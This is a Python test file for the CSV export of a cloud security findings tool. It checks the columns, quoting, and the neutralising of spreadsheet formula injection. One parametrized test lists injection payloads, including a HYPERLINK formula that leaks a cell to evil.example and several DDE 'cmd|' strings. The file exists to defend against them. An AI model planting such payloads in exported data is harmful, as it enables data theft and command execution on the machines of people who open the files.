from __future__ import annotations

import csv
import io

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from mamori.core import Finding, Resource
from mamori.exports import write_findings
from mamori.exports.tabular import COLUMNS
from tests.exports.strategies import BUCKET, findings, make_finding


def _rows(findings: list[Finding]) -> list[dict[str, str]]:
    out = io.StringIO(newline="")
    assert write_findings(findings, "csv", out) == len(findings)
    reader = csv.reader(io.StringIO(out.getvalue(), newline=""))
    header, *rows = list(reader)
    assert tuple(header) == COLUMNS
    return [dict(zip(header, r, strict=True)) for r in rows]


def test_columns() -> None:
    (row,) = _rows([make_finding()])
    assert row["id"].startswith("mamori-")
    assert row["status"] == "FAILED"
    assert row["severity"] == "MEDIUM"
    assert row["check_id"] == "s3.bucket_ssl_requests_only"
    assert row["account_id"] == "111122223333"
    assert row["region"] == "us-east-1"
    assert (row["resource_type"], row["resource_id"]) == ("AwsS3Bucket", BUCKET)
    assert row["first_observed_at"] == row["last_observed_at"] == "2025-03-01T12:30:45.123Z"
    assert (row["workflow"], row["record_state"]) == ("NEW", "ACTIVE")
    assert row["standards"] == (
        "aws-foundational-security-best-practices-1.0.0:S3.5;cis-aws-foundations-3.0.0:2.1.1"
    )
    assert row["reason"] == "no policy statement denies HTTP"


def test_detection_finding_has_no_status_or_standards() -> None:
    (row,) = _rows([make_finding(compliance=None)])
    assert (row["status"], row["standards"], row["reason"]) == ("", "", "")


def test_commas_quotes_and_newlines_survive() -> None:
    title = 'Bucket "logs", public,\nand\r\nlisted'
    (row,) = _rows([make_finding(title=title)])
    assert row["title"] == title


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|x",
        "@SUM(1+1)*cmd|x",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_formula_injection_is_neutralised(hostile: str) -> None:
    resource = Resource(type="AwsS3Bucket", id=hostile)
    (row,) = _rows([make_finding(title=hostile, resources=[resource])])
    assert row["title"] == "'" + hostile
    assert row["resource_id"] == "'" + hostile


def test_ordinary_text_is_left_alone() -> None:
    (row,) = _rows([make_finding(title="a=b, c-d @e")])
    assert row["title"] == "a=b, c-d @e"


def test_header_only_when_nothing_to_write() -> None:
    assert _rows([]) == []


@settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(st.lists(findings(), min_size=1, max_size=3))
def test_any_findings_give_one_safe_row_each(batch: list[Finding]) -> None:
    rows = _rows(batch)
    assert [r["id"] for r in rows] == [f.id for f in batch]
    for f, r in zip(batch, rows, strict=True):
        for cell in r.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert r["title"].removeprefix("'") == f.title
